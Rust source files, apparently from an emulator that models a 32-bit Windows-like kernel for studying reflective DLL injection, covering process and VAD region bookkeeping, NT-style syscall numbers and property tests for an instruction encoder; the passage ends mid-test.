        assert_eq!(fs.version("a"), Some(3));
        assert_eq!(fs.version("missing"), None);
    }

    #[test]
    fn list_by_prefix() {
        let mut fs = FileSystem::new();
        fs.create("C:/a", vec![]).unwrap();
        fs.create("C:/b", vec![]).unwrap();
        fs.create("D:/c", vec![]).unwrap();
        assert_eq!(fs.list("C:/"), vec!["C:/a".to_string(), "C:/b".to_string()]);
    }
}
