//! Processes, threads, and VAD-style region bookkeeping.

use crate::handle::{HandleTable, Pid, Tid};
use crate::module::ModuleInfo;
use crate::nt::Sysno;
use faros_emu::cpu::CpuContext;
use faros_emu::mmu::{AddressSpace, Asid, Perms};
use std::collections::BTreeMap;
use std::fmt;

/// Why a thread is blocked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BlockReason {
    /// Waiting for bytes on a socket connection.
    NetRecv {
        /// Fabric connection id.
        conn: u32,
    },
    /// Waiting for an inbound connection on a listening port.
    NetAccept {
        /// Listening guest port.
        port: u16,
    },
    /// Sleeping until a virtual tick.
    Sleep {
        /// Wake tick.
        until: u64,
    },
}

/// Thread scheduling state.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ThreadState {
    /// Runnable.
    Ready,
    /// Parked on a blocking operation.
    Blocked(BlockReason),
    /// Suspended (`NtSuspendThread`, or created suspended). The field is the
    /// suspend count.
    Suspended(u32),
    /// Finished.
    Exited,
}

/// A syscall that returned `Pending` and must be retried when the thread
/// unblocks (the gate instruction has already retired, so the kernel re-runs
/// the *service*, not the instruction).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PendingSyscall {
    /// The service to retry.
    pub sysno: Sysno,
    /// Its captured arguments.
    pub args: [u32; 5],
}

/// A guest thread.
#[derive(Debug, Clone)]
pub struct Thread {
    /// Thread id (machine-wide unique).
    pub tid: Tid,
    /// Saved architectural context.
    pub ctx: CpuContext,
    /// Scheduling state.
    pub state: ThreadState,
    /// Blocked syscall to retry on wake.
    pub pending: Option<PendingSyscall>,
}

impl Thread {
    /// Creates a ready thread with the given context.
    pub fn new(tid: Tid, ctx: CpuContext) -> Thread {
        Thread { tid, ctx, state: ThreadState::Ready, pending: None }
    }

    /// Returns `true` if the scheduler may pick this thread.
    pub fn is_ready(&self) -> bool {
        self.state == ThreadState::Ready
    }
}

/// What a memory region is backed by — the VAD information
/// `NtQueryVirtualMemory` reports and malfind-style scanners inspect.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RegionKind {
    /// Part of a loaded module image.
    Image {
        /// Module (file) name.
        module: String,
    },
    /// Anonymous private memory (`NtAllocateVirtualMemory`).
    Private,
    /// A thread stack.
    Stack,
    /// A mapped view of a file section.
    Mapped {
        /// Backing file path.
        path: String,
    },
}

/// One VAD-style virtual memory region.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VadRegion {
    /// Base virtual address (page aligned).
    pub base: u32,
    /// Size in bytes (page multiple).
    pub size: u32,
    /// Current page permissions.
    pub perms: Perms,
    /// Backing kind.
    pub kind: RegionKind,
}

impl VadRegion {
    /// Returns `true` if `va` lies inside the region.
    pub fn contains(&self, va: u32) -> bool {
        va >= self.base && (va - self.base) < self.size
    }
}

/// Summary of a process for plugin callbacks (the OSI view).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProcessInfo {
    /// Process id.
    pub pid: Pid,
    /// CR3 / address-space id — the paper's architecture-level identity.
    pub cr3: u32,
    /// Image name.
    pub name: String,
    /// Parent process, if any.
    pub parent: Option<Pid>,
}

/// A guest process.
#[derive(Debug)]
pub struct Process {
    /// Process id.
    pub pid: Pid,
    /// Image name (e.g. `notepad.exe`).
    pub name: String,
    /// Parent pid.
    pub parent: Option<Pid>,
    /// The process address space; its [`Asid`] is the CR3 value.
    pub aspace: AddressSpace,
    /// Handle table.
    pub handles: HandleTable,
    /// Threads by tid.
    pub threads: BTreeMap<Tid, Thread>,
    /// VAD-style region list, kept sorted by base.
    pub regions: Vec<VadRegion>,
    /// Loaded modules (the "DLL list" sandbox tools inspect).
    pub modules: Vec<ModuleInfo>,
    /// Exit code once terminated.
    pub exit_code: Option<u32>,
    /// Bump pointer for `NtAllocateVirtualMemory` (when no address given).
    pub next_alloc_va: u32,
}

impl Process {
    /// Creates an empty process around an address space.
    pub fn new(pid: Pid, name: &str, parent: Option<Pid>, aspace: AddressSpace) -> Process {
        Process {
            pid,
            name: name.to_string(),
            parent,
            aspace,
            handles: HandleTable::new(),
            threads: BTreeMap::new(),
            regions: Vec::new(),
            modules: Vec::new(),
            exit_code: None,
            next_alloc_va: 0x0100_0000,
        }
    }

    /// The CR3 value (address-space id).
    pub fn cr3(&self) -> Asid {
        self.aspace.asid()
    }

    /// The OSI summary.
    pub fn info(&self) -> ProcessInfo {
        ProcessInfo {
            pid: self.pid,
            cr3: self.cr3().0,
            name: self.name.clone(),
            parent: self.parent,
        }
    }

    /// Returns `true` until the process has exited.
    pub fn is_alive(&self) -> bool {
        self.exit_code.is_none()
    }

    /// Registers a region, keeping the list sorted by base.
    pub fn add_region(&mut self, region: VadRegion) {
        let at = self.regions.partition_point(|r| r.base < region.base);
        self.regions.insert(at, region);
    }

    /// Removes the region starting exactly at `base`, returning it.
    pub fn remove_region(&mut self, base: u32) -> Option<VadRegion> {
        let idx = self.regions.iter().position(|r| r.base == base)?;
        Some(self.regions.remove(idx))
    }

    /// Finds the region containing `va`.
    pub fn region_containing(&self, va: u32) -> Option<&VadRegion> {
        self.regions.iter().find(|r| r.contains(va))
    }

    /// Updates the recorded permissions of the region containing `va`.
    pub fn set_region_perms(&mut self, va: u32, perms: Perms) -> bool {
        if let Some(r) = self.regions.iter_mut().find(|r| r.contains(va)) {
            r.perms = perms;
            true
        } else {
            false
        }
    }

    /// Returns `true` if any thread is not exited.
    pub fn has_live_threads(&self) -> bool {
        self.threads.values().any(|t| t.state != ThreadState::Exited)
    }
}

impl fmt::Display for Process {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} ({}, {})", self.name, self.pid, self.cr3())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn proc() -> Process {
        Process::new(Pid(4), "test.exe", None, AddressSpace::new(Asid(0x4000)))
    }

    #[test]
    fn info_exposes_cr3() {
        let p = proc();
        let info = p.info();
        assert_eq!(info.cr3, 0x4000);
        assert_eq!(info.name, "test.exe");
        assert_eq!(info.parent, None);
    }

    #[test]
    fn regions_sorted_and_searchable() {
        let mut p = proc();
        p.add_region(VadRegion { base: 0x3000, size: 0x1000, perms: Perms::RW, kind: RegionKind::Private });
        p.add_region(VadRegion { base: 0x1000, size: 0x2000, perms: Perms::RX, kind: RegionKind::Image { module: "a".into() } });
        assert_eq!(p.regions[0].base, 0x1000);
        assert_eq!(p.regions[1].base, 0x3000);
        assert!(p.region_containing(0x2fff).is_some());
        assert!(p.region_containing(0x4000).is_none());
        assert_eq!(p.region_containing(0x3000).unwrap().base, 0x3000);
    }

    #[test]
    fn remove_region_by_base() {
        let mut p = proc();
        p.add_region(VadRegion { base: 0x1000, size: 0x1000, perms: Perms::RW, kind: RegionKind::Private });
        assert!(p.remove_region(0x2000).is_none());
        assert!(p.remove_region(0x1000).is_some());
        assert!(p.regions.is_empty());
    }

    #[test]
    fn set_region_perms_reflects_protect() {
        let mut p = proc();
        p.add_region(VadRegion { base: 0x1000, size: 0x1000, perms: Perms::RW, kind: RegionKind::Private });
        assert!(p.set_region_perms(0x1800, Perms::RWX));
        assert_eq!(p.region_containing(0x1800).unwrap().perms, Perms::RWX);
        assert!(!p.set_region_perms(0x9000, Perms::R));
    }

    #[test]
    fn thread_lifecycle() {
        let mut p = proc();
        let t = Thread::new(Tid(1), CpuContext::default());
        assert!(t.is_ready());
        p.threads.insert(t.tid, t);
        assert!(p.has_live_threads());
        p.threads.get_mut(&Tid(1)).unwrap().state = ThreadState::Exited;
        assert!(!p.has_live_threads());
        assert!(p.is_alive());
        p.exit_code = Some(0);
        assert!(!p.is_alive());
    }

    #[test]
    fn region_contains_bounds() {
        let r = VadRegion { base: 0x1000, size: 0x1000, perms: Perms::R, kind: RegionKind::Stack };
        assert!(!r.contains(0xfff));
        assert!(r.contains(0x1000));
        assert!(r.contains(0x1fff));
        assert!(!r.contains(0x2000));
    }
}
