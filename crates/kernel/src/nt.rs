//! NT-flavoured syscall numbers, status codes, and ABI constants.
//!
//! The guest ABI mirrors 32-bit Windows closely enough that the paper's
//! attack recipes translate one-to-one: the syscall number travels in `EAX`
//! through the `int 0x2e` gate, up to five arguments in
//! `EBX/ECX/EDX/ESI/EDI`, and the `NTSTATUS` comes back in `EAX`.
//!
//! The file-system surface deliberately counts **26 syscalls** — the number
//! FAROS hooks for file-tag insertion (paper §V-A: "FAROS leverages 26
//! filesystem-related system calls").

use std::fmt;

/// NTSTATUS values returned by syscalls (in `EAX`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[repr(u32)]
pub enum NtStatus {
    /// The operation completed successfully.
    Success = 0x0000_0000,
    /// The operation is blocked waiting for I/O (thread parked).
    Pending = 0x0000_0103,
    /// End of file reached.
    EndOfFile = 0xC000_0011,
    /// A handle argument did not resolve.
    InvalidHandle = 0xC000_0008,
    /// A parameter was malformed.
    InvalidParameter = 0xC000_000D,
    /// The named object does not exist.
    ObjectNameNotFound = 0xC000_0034,
    /// The named object already exists.
    ObjectNameCollision = 0xC000_0035,
    /// A guest pointer argument faulted.
    AccessViolation = 0xC000_0005,
    /// The caller may not perform the operation.
    AccessDenied = 0xC000_0022,
    /// Out of guest memory.
    NoMemory = 0xC000_0017,
    /// The syscall number is not implemented.
    NotImplemented = 0xC000_0002,
    /// The remote peer refused the connection.
    ConnectionRefused = 0xC000_0236,
    /// The connection was closed by the peer.
    ConnectionReset = 0xC000_0064,
    /// The object is not in a state permitting the request.
    InvalidDeviceState = 0xC000_0184,
    /// Address range conflicts with an existing allocation.
    ConflictingAddresses = 0xC000_0018,
}

impl NtStatus {
    /// Returns `true` for success-class statuses.
    pub fn is_success(self) -> bool {
        (self as u32) & 0x8000_0000 == 0
    }
}

impl fmt::Display for NtStatus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{self:?} ({:#010x})", *self as u32)
    }
}

/// System service numbers, passed in `EAX` at the `int 0x2e` gate.
///
/// Grouped exactly as FAROS hooks them: the 26 file-system services first
/// (tag-insertion surface), then process/memory/thread services (the
/// injection surface), then sockets and miscellanea.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[repr(u32)]
#[allow(missing_docs)] // Names mirror the NT services they model.
pub enum Sysno {
    // --- file system (the 26 hooked services) ---
    NtCreateFile = 0x01,
    NtOpenFile = 0x02,
    NtReadFile = 0x03,
    NtWriteFile = 0x04,
    NtClose = 0x05,
    NtDeleteFile = 0x06,
    NtQueryInformationFile = 0x07,
    NtSetInformationFile = 0x08,
    NtFlushBuffersFile = 0x09,
    NtQueryDirectoryFile = 0x0a,
    NtCreateSection = 0x0b,
    NtOpenSection = 0x0c,
    NtMapViewOfSection = 0x0d,
    NtUnmapViewOfSection = 0x0e,
    NtQueryAttributesFile = 0x0f,
    NtQueryFullAttributesFile = 0x10,
    NtLockFile = 0x11,
    NtUnlockFile = 0x12,
    NtReadFileScatter = 0x13,
    NtWriteFileGather = 0x14,
    NtDeviceIoControlFile = 0x15,
    NtFsControlFile = 0x16,
    NtQueryVolumeInformationFile = 0x17,
    NtSetVolumeInformationFile = 0x18,
    NtQueryEaFile = 0x19,
    NtSetEaFile = 0x1a,

    // --- process / memory / thread ---
    NtCreateUserProcess = 0x20,
    NtOpenProcess = 0x21,
    NtTerminateProcess = 0x22,
    NtSuspendThread = 0x23,
    NtResumeThread = 0x24,
    NtCreateThreadEx = 0x25,
    NtGetContextThread = 0x26,
    NtSetContextThread = 0x27,
    NtAllocateVirtualMemory = 0x28,
    NtProtectVirtualMemory = 0x29,
    NtFreeVirtualMemory = 0x2a,
    NtWriteVirtualMemory = 0x2b,
    NtReadVirtualMemory = 0x2c,
    NtQueryVirtualMemory = 0x2d,
    NtQueryInformationProcess = 0x2e,

    // --- network (AFD-equivalent, surfaced as dedicated services) ---
    NtSocketCreate = 0x40,
    NtSocketConnect = 0x41,
    NtSocketBind = 0x42,
    NtSocketListen = 0x43,
    NtSocketAccept = 0x44,
    NtSocketSend = 0x45,
    NtSocketRecv = 0x46,

    // --- miscellanea ---
    NtDelayExecution = 0x50,
    NtQuerySystemTime = 0x51,
    NtDisplayString = 0x52,
    NtYieldExecution = 0x53,
    /// Normal (registered) library loading — the `LdrLoadDll` path the
    /// reflective technique bypasses (paper §II: "this leads to a bypass in
    /// the procedure of registering the DLL with a process").
    LdrLoadDll = 0x54,
}

impl Sysno {
    /// Decodes a service number from the `EAX` value at the gate.
    pub fn from_u32(v: u32) -> Option<Sysno> {
        Sysno::ALL.iter().copied().find(|&s| s as u32 == v)
    }

    /// All defined service numbers.
    pub const ALL: [Sysno; 53] = [
        Sysno::NtCreateFile,
        Sysno::NtOpenFile,
        Sysno::NtReadFile,
        Sysno::NtWriteFile,
        Sysno::NtClose,
        Sysno::NtDeleteFile,
        Sysno::NtQueryInformationFile,
        Sysno::NtSetInformationFile,
        Sysno::NtFlushBuffersFile,
        Sysno::NtQueryDirectoryFile,
        Sysno::NtCreateSection,
        Sysno::NtOpenSection,
        Sysno::NtMapViewOfSection,
        Sysno::NtUnmapViewOfSection,
        Sysno::NtQueryAttributesFile,
        Sysno::NtQueryFullAttributesFile,
        Sysno::NtLockFile,
        Sysno::NtUnlockFile,
        Sysno::NtReadFileScatter,
        Sysno::NtWriteFileGather,
        Sysno::NtDeviceIoControlFile,
        Sysno::NtFsControlFile,
        Sysno::NtQueryVolumeInformationFile,
        Sysno::NtSetVolumeInformationFile,
        Sysno::NtQueryEaFile,
        Sysno::NtSetEaFile,
        Sysno::NtCreateUserProcess,
        Sysno::NtOpenProcess,
        Sysno::NtTerminateProcess,
        Sysno::NtSuspendThread,
        Sysno::NtResumeThread,
        Sysno::NtCreateThreadEx,
        Sysno::NtGetContextThread,
        Sysno::NtSetContextThread,
        Sysno::NtAllocateVirtualMemory,
        Sysno::NtProtectVirtualMemory,
        Sysno::NtFreeVirtualMemory,
        Sysno::NtWriteVirtualMemory,
        Sysno::NtReadVirtualMemory,
        Sysno::NtQueryVirtualMemory,
        Sysno::NtQueryInformationProcess,
        Sysno::NtSocketCreate,
        Sysno::NtSocketConnect,
        Sysno::NtSocketBind,
        Sysno::NtSocketListen,
        Sysno::NtSocketAccept,
        Sysno::NtSocketSend,
        Sysno::NtSocketRecv,
        Sysno::NtDelayExecution,
        Sysno::NtQuerySystemTime,
        Sysno::NtDisplayString,
        Sysno::NtYieldExecution,
        Sysno::LdrLoadDll,
    ];

    /// Returns `true` for the 26 file-system services FAROS hooks for file
    /// tag insertion.
    pub fn is_file_syscall(self) -> bool {
        (self as u32) >= Sysno::NtCreateFile as u32
            && (self as u32) <= Sysno::NtSetEaFile as u32
    }

    /// Returns `true` for the process/memory/thread services that implement
    /// the injection surface.
    pub fn is_process_syscall(self) -> bool {
        (self as u32) >= Sysno::NtCreateUserProcess as u32
            && (self as u32) <= Sysno::NtQueryInformationProcess as u32
    }

    /// Returns `true` for socket services.
    pub fn is_socket_syscall(self) -> bool {
        (self as u32) >= Sysno::NtSocketCreate as u32
            && (self as u32) <= Sysno::NtSocketRecv as u32
    }

    /// The service name as a `'static` string (for trace-event and metric
    /// names, where an owned `Display` rendering would allocate per event).
    pub fn name(self) -> &'static str {
        match self {
            Sysno::NtCreateFile => "NtCreateFile",
            Sysno::NtOpenFile => "NtOpenFile",
            Sysno::NtReadFile => "NtReadFile",
            Sysno::NtWriteFile => "NtWriteFile",
            Sysno::NtClose => "NtClose",
            Sysno::NtDeleteFile => "NtDeleteFile",
            Sysno::NtQueryInformationFile => "NtQueryInformationFile",
            Sysno::NtSetInformationFile => "NtSetInformationFile",
            Sysno::NtFlushBuffersFile => "NtFlushBuffersFile",
            Sysno::NtQueryDirectoryFile => "NtQueryDirectoryFile",
            Sysno::NtCreateSection => "NtCreateSection",
            Sysno::NtOpenSection => "NtOpenSection",
            Sysno::NtMapViewOfSection => "NtMapViewOfSection",
            Sysno::NtUnmapViewOfSection => "NtUnmapViewOfSection",
            Sysno::NtQueryAttributesFile => "NtQueryAttributesFile",
            Sysno::NtQueryFullAttributesFile => "NtQueryFullAttributesFile",
            Sysno::NtLockFile => "NtLockFile",
            Sysno::NtUnlockFile => "NtUnlockFile",
            Sysno::NtReadFileScatter => "NtReadFileScatter",
            Sysno::NtWriteFileGather => "NtWriteFileGather",
            Sysno::NtDeviceIoControlFile => "NtDeviceIoControlFile",
            Sysno::NtFsControlFile => "NtFsControlFile",
            Sysno::NtQueryVolumeInformationFile => "NtQueryVolumeInformationFile",
            Sysno::NtSetVolumeInformationFile => "NtSetVolumeInformationFile",
            Sysno::NtQueryEaFile => "NtQueryEaFile",
            Sysno::NtSetEaFile => "NtSetEaFile",
            Sysno::NtCreateUserProcess => "NtCreateUserProcess",
            Sysno::NtOpenProcess => "NtOpenProcess",
            Sysno::NtTerminateProcess => "NtTerminateProcess",
            Sysno::NtSuspendThread => "NtSuspendThread",
            Sysno::NtResumeThread => "NtResumeThread",
            Sysno::NtCreateThreadEx => "NtCreateThreadEx",
            Sysno::NtGetContextThread => "NtGetContextThread",
            Sysno::NtSetContextThread => "NtSetContextThread",
            Sysno::NtAllocateVirtualMemory => "NtAllocateVirtualMemory",
            Sysno::NtProtectVirtualMemory => "NtProtectVirtualMemory",
            Sysno::NtFreeVirtualMemory => "NtFreeVirtualMemory",
            Sysno::NtWriteVirtualMemory => "NtWriteVirtualMemory",
            Sysno::NtReadVirtualMemory => "NtReadVirtualMemory",
            Sysno::NtQueryVirtualMemory => "NtQueryVirtualMemory",
            Sysno::NtQueryInformationProcess => "NtQueryInformationProcess",
            Sysno::NtSocketCreate => "NtSocketCreate",
            Sysno::NtSocketConnect => "NtSocketConnect",
            Sysno::NtSocketBind => "NtSocketBind",
            Sysno::NtSocketListen => "NtSocketListen",
            Sysno::NtSocketAccept => "NtSocketAccept",
            Sysno::NtSocketSend => "NtSocketSend",
            Sysno::NtSocketRecv => "NtSocketRecv",
            Sysno::NtDelayExecution => "NtDelayExecution",
            Sysno::NtQuerySystemTime => "NtQuerySystemTime",
            Sysno::NtDisplayString => "NtDisplayString",
            Sysno::NtYieldExecution => "NtYieldExecution",
            Sysno::LdrLoadDll => "LdrLoadDll",
        }
    }
}

impl fmt::Display for Sysno {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{self:?}")
    }
}

/// Pseudo-handle meaning "the current process" (NT's `-1`).
pub const CURRENT_PROCESS: u32 = 0xffff_ffff;

/// Pseudo-handle meaning "the current thread" (NT's `-2`).
pub const CURRENT_THREAD: u32 = 0xffff_fffe;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exactly_26_file_syscalls() {
        let n = Sysno::ALL.iter().filter(|s| s.is_file_syscall()).count();
        assert_eq!(n, 26, "the paper hooks exactly 26 filesystem syscalls");
    }

    #[test]
    fn sysno_round_trip() {
        for s in Sysno::ALL {
            assert_eq!(Sysno::from_u32(s as u32), Some(s));
        }
        assert_eq!(Sysno::from_u32(0xdead), None);
    }

    #[test]
    fn name_matches_debug_rendering() {
        for s in Sysno::ALL {
            assert_eq!(s.name(), format!("{s:?}"), "name() must track the variant");
        }
    }

    #[test]
    fn status_success_classification() {
        assert!(NtStatus::Success.is_success());
        assert!(NtStatus::Pending.is_success());
        assert!(!NtStatus::AccessViolation.is_success());
        assert!(!NtStatus::EndOfFile.is_success());
    }

    #[test]
    fn classification_is_disjoint() {
        for s in Sysno::ALL {
            let classes = [s.is_file_syscall(), s.is_process_syscall(), s.is_socket_syscall()];
            assert!(classes.iter().filter(|&&c| c).count() <= 1, "{s} in multiple classes");
        }
    }

    #[test]
    fn injection_surface_is_process_class() {
        assert!(Sysno::NtWriteVirtualMemory.is_process_syscall());
        assert!(Sysno::NtCreateThreadEx.is_process_syscall());
        assert!(Sysno::NtSetContextThread.is_process_syscall());
        assert!(Sysno::NtUnmapViewOfSection.is_file_syscall()); // section ops are file-class, as in NT
    }
}
