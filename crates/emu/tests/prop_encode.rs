//! Property tests for the FE32 binary encoding: the instruction stream is
//! the substrate everything above trusts, so `decode(encode(i)) == i` must
//! hold for *every* representable instruction, and `decode` must be total
//! (never panic) on arbitrary byte soup — injected "code" is attacker
//! controlled.

use faros_emu::encode::{decode, encode, MAX_INSTR_LEN};
use faros_emu::isa::{AluOp, Cond, Instr, Mem, Operand, Reg, Width};
use proptest::prelude::*;

fn reg_strategy() -> impl Strategy<Value = Reg> {
    prop::sample::select(Reg::ALL.to_vec())
}

fn mem_strategy() -> impl Strategy<Value = Mem> {
    (
        prop::option::of(reg_strategy()),
        prop::option::of((reg_strategy(), prop::sample::select(vec![1u8, 2, 4, 8]))),
        any::<i32>(),
    )
        .prop_map(|(base, index, disp)| Mem { base, index, disp })
}

fn operand_strategy() -> impl Strategy<Value = Operand> {
    prop_oneof![
        reg_strategy().prop_map(Operand::Reg),
        any::<u32>().prop_map(Operand::Imm),
    ]
}

fn width_strategy() -> impl Strategy<Value = Width> {
    prop::sample::select(vec![Width::B1, Width::B2, Width::B4])
}

fn instr_strategy() -> impl Strategy<Value = Instr> {
    prop_oneof![
        Just(Instr::Nop),
        Just(Instr::Hlt),
        Just(Instr::Ret),
        (reg_strategy(), reg_strategy()).prop_map(|(dst, src)| Instr::MovRR { dst, src }),
        (reg_strategy(), any::<u32>()).prop_map(|(dst, imm)| Instr::MovRI { dst, imm }),
        (reg_strategy(), mem_strategy(), width_strategy())
            .prop_map(|(dst, mem, width)| Instr::Load { dst, mem, width }),
        (mem_strategy(), reg_strategy(), width_strategy())
            .prop_map(|(mem, src, width)| Instr::Store { mem, src, width }),
        (reg_strategy(), mem_strategy()).prop_map(|(dst, mem)| Instr::Lea { dst, mem }),
        (
            prop::sample::select(AluOp::ALL.to_vec()),
            reg_strategy(),
            operand_strategy()
        )
            .prop_map(|(op, dst, src)| Instr::Alu { op, dst, src }),
        (reg_strategy(), operand_strategy()).prop_map(|(a, b)| Instr::Cmp { a, b }),
        (reg_strategy(), operand_strategy()).prop_map(|(a, b)| Instr::Test { a, b }),
        any::<i32>().prop_map(|rel| Instr::Jmp { rel }),
        (prop::sample::select(Cond::ALL.to_vec()), any::<i32>())
            .prop_map(|(cond, rel)| Instr::Jcc { cond, rel }),
        any::<i32>().prop_map(|rel| Instr::Call { rel }),
        reg_strategy().prop_map(|target| Instr::CallReg { target }),
        reg_strategy().prop_map(|target| Instr::JmpReg { target }),
        reg_strategy().prop_map(|src| Instr::Push { src }),
        any::<u32>().prop_map(|imm| Instr::PushImm { imm }),
        reg_strategy().prop_map(|dst| Instr::Pop { dst }),
        any::<u8>().prop_map(|vector| Instr::Int { vector }),
    ]
}

proptest! {
    #[test]
    fn encode_decode_round_trip(instr in instr_strategy()) {
        let bytes = encode(&instr);
        prop_assert!(bytes.len() <= MAX_INSTR_LEN);
        let (decoded, len) = decode(&bytes).expect("own encoding decodes");
        prop_assert_eq!(decoded, instr);
        prop_assert_eq!(len, bytes.len());
    }

    #[test]
    fn decode_is_total_on_arbitrary_bytes(bytes in prop::collection::vec(any::<u8>(), 0..32)) {
        // Must never panic; on success the reported length is in range.
        if let Ok((_, len)) = decode(&bytes) {
            prop_assert!((1..=MAX_INSTR_LEN).contains(&len));
            prop_assert!(len <= bytes.len());
        }
    }

    #[test]
    fn instruction_streams_decode_sequentially(
        instrs in prop::collection::vec(instr_strategy(), 1..32)
    ) {
        // Concatenated encodings decode back to the same sequence — the
        // CPU's fetch loop depends on self-synchronizing streams.
        let mut stream = Vec::new();
        for i in &instrs {
            stream.extend_from_slice(&encode(i));
        }
        let mut off = 0;
        let mut decoded = Vec::new();
        while off < stream.len() {
            let (i, len) = decode(&stream[off..]).expect("stream decodes");
            decoded.push(i);
            off += len;
        }
        prop_assert_eq!(decoded, instrs);
    }

    #[test]
    fn display_is_nonempty(instr in instr_strategy()) {
        prop_assert!(!instr.to_string().is_empty());
    }
}
