//! Property tests for the FE32 binary encoding: the instruction stream is
//! the substrate everything above trusts, so `decode(encode(i)) == i` must
//! hold for *every* representable instruction, and `decode` must be total
//! (never panic) on arbitrary byte soup — injected "code" is attacker
//! controlled.
//!
//! Runs on the in-tree deterministic harness (`faros_support::prop`) with
//! the pinned default seed; set `FAROS_PROP_SEED` to explore other streams.

use faros_emu::encode::{decode, encode, MAX_INSTR_LEN};
use faros_support::arb;
use faros_support::prop::{check, Config};
use faros_support::{prop_assert, prop_assert_eq};

#[test]
fn encode_decode_round_trip() {
    check("encode_decode_round_trip", Config::default(), arb::instr, |instr| {
        let bytes = encode(instr);
        prop_assert!(bytes.len() <= MAX_INSTR_LEN);
        let (decoded, len) =
            decode(&bytes).map_err(|e| format!("own encoding must decode: {e:?}"))?;
        prop_assert_eq!(decoded, *instr);
        prop_assert_eq!(len, bytes.len());
        Ok(())
    });
}

#[test]
fn decode_is_total_on_arbitrary_bytes() {
    check(
        "decode_is_total_on_arbitrary_bytes",
        Config::default(),
        |rng| rng.vec_of(0, 32, |r| r.next_u8()),
        |bytes| {
            // Must never panic; on success the reported length is in range.
            if let Ok((_, len)) = decode(bytes) {
                prop_assert!((1..=MAX_INSTR_LEN).contains(&len));
                prop_assert!(len <= bytes.len());
            }
            Ok(())
        },
    );
}

#[test]
fn instruction_streams_decode_sequentially() {
    check(
        "instruction_streams_decode_sequentially",
        Config::default(),
        |rng| rng.vec_of(1, 32, arb::instr),
        |instrs| {
            // Concatenated encodings decode back to the same sequence — the
            // CPU's fetch loop depends on self-synchronizing streams.
            let mut stream = Vec::new();
            for i in instrs {
                stream.extend_from_slice(&encode(i));
            }
            let mut off = 0;
            let mut decoded = Vec::new();
            while off < stream.len() {
                let (i, len) =
                    decode(&stream[off..]).map_err(|e| format!("stream must decode: {e:?}"))?;
                decoded.push(i);
                off += len;
            }
            prop_assert_eq!(&decoded, instrs);
            Ok(())
        },
    );
}

#[test]
fn display_is_nonempty() {
    check("display_is_nonempty", Config::default(), arb::instr, |instr| {
        prop_assert!(!instr.to_string().is_empty());
        Ok(())
    });
}
