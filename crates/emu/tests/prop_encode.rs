//! Property tests for the FE32 binary encoding: the instruction stream is
//! the substrate everything above trusts, so `decode(encode(i)) == i` must
//! hold for *every* representable instruction, and `decode` must be total
//! (never panic) on arbitrary byte soup — injected "code" is attacker
//! controlled.
//!
//! Runs on the in-tree deterministic harness (`faros_support::prop`) with
//! the pinned default seed; set `FAROS_PROP_SEED` to explore other streams.

use faros_emu::encode::{decode, decode_at, encode, MAX_INSTR_LEN};
use faros_support::arb;
use faros_support::prop::{check, Config};
use faros_support::{prop_assert, prop_assert_eq};

#[test]
fn every_variant_reencodes_byte_identically() {
    // One sub-property per `Instr` variant: encode → decode → re-encode must
    // be byte-identical. Enumerating `k` guarantees no variant escapes
    // coverage by luck of the uniform draw (the gap this test closes over
    // `encode_decode_round_trip`).
    for k in 0..arb::INSTR_VARIANTS {
        check(
            &format!("reencode_variant_{k}"),
            Config::with_cases(64),
            move |rng| arb::instr_variant(rng, k),
            |instr| {
                let bytes = encode(instr);
                prop_assert!(!bytes.is_empty() && bytes.len() <= MAX_INSTR_LEN);
                let (decoded, len) =
                    decode(&bytes).map_err(|e| format!("variant must decode: {e:?}"))?;
                prop_assert_eq!(decoded, *instr);
                prop_assert_eq!(len, bytes.len());
                let reencoded = encode(&decoded);
                prop_assert_eq!(&reencoded, &bytes, "re-encoding must be byte-identical");
                Ok(())
            },
        );
    }
}

#[test]
fn encode_decode_round_trip() {
    check("encode_decode_round_trip", Config::default(), arb::instr, |instr| {
        let bytes = encode(instr);
        prop_assert!(bytes.len() <= MAX_INSTR_LEN);
        let (decoded, len) =
            decode(&bytes).map_err(|e| format!("own encoding must decode: {e:?}"))?;
        prop_assert_eq!(decoded, *instr);
        prop_assert_eq!(len, bytes.len());
        Ok(())
    });
}

#[test]
fn decode_is_total_on_arbitrary_bytes() {
    check(
        "decode_is_total_on_arbitrary_bytes",
        Config::default(),
        |rng| rng.vec_of(0, 32, |r| r.next_u8()),
        |bytes| {
            // Must never panic; on success the reported length is in range.
            if let Ok((_, len)) = decode(bytes) {
                prop_assert!((1..=MAX_INSTR_LEN).contains(&len));
                prop_assert!(len <= bytes.len());
            }
            Ok(())
        },
    );
}

#[test]
fn instruction_streams_decode_sequentially() {
    check(
        "instruction_streams_decode_sequentially",
        Config::default(),
        |rng| rng.vec_of(1, 32, arb::instr),
        |instrs| {
            // Concatenated encodings decode back to the same sequence — the
            // CPU's fetch loop depends on self-synchronizing streams.
            let mut stream = Vec::new();
            for i in instrs {
                stream.extend_from_slice(&encode(i));
            }
            let mut off = 0;
            let mut decoded = Vec::new();
            while off < stream.len() {
                let (i, len) =
                    decode(&stream[off..]).map_err(|e| format!("stream must decode: {e:?}"))?;
                decoded.push(i);
                off += len;
            }
            prop_assert_eq!(&decoded, instrs);
            Ok(())
        },
    );
}

#[test]
fn decode_at_agrees_with_sequential_decode() {
    check(
        "decode_at_agrees_with_sequential_decode",
        Config::default(),
        |rng| rng.vec_of(1, 24, arb::instr),
        |instrs| {
            // decode_at(stream, off) at each instruction boundary must see
            // exactly the instruction a front-to-back decode loop sees — the
            // invariant the static disassembler's cursor arithmetic rests on.
            let mut stream = Vec::new();
            let mut offsets = Vec::new();
            for i in instrs {
                offsets.push(stream.len());
                stream.extend_from_slice(&encode(i));
            }
            for (i, &off) in instrs.iter().zip(&offsets) {
